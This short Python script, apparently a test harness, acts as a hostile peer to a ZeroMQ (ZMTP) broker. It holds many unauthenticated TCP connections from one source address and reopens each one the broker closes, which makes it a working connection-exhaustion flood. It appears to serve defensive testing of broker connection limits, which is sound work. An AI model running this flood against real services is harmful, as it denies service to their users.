#!/usr/bin/python3
"""A hostile broker peer: holds many TCP connections that never speak ZMTP (so never
authenticate), from one source address, and opens a new one whenever the broker closes one.

  flood_connect.py HOST PORT SOURCE COUNT    prints HELD n once the first COUNT attempts are made

Runs until killed.
"""
import select
import socket
import sys
import time


def open_one(host, port, source):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.bind((source, 0))
    s.setblocking(False)
    try:
        s.connect((host, port))
    except BlockingIOError:
        pass
    return s


def main(host, port, source, count):
    held = [open_one(host, port, source) for _ in range(count)]
    print("HELD", len(held), flush=True)
    while True:
        readable, _, _ = select.select(held, [], [], 0.2)
        for s in readable:
            try:
                data = s.recv(4096)
            except OSError:
                data = b""
            if not data:
                held.remove(s)
                s.close()
                held.append(open_one(host, port, source))
        time.sleep(0.01)


if __name__ == "__main__":
    main(sys.argv[1], int(sys.argv[2]), sys.argv[3], int(sys.argv[4]))
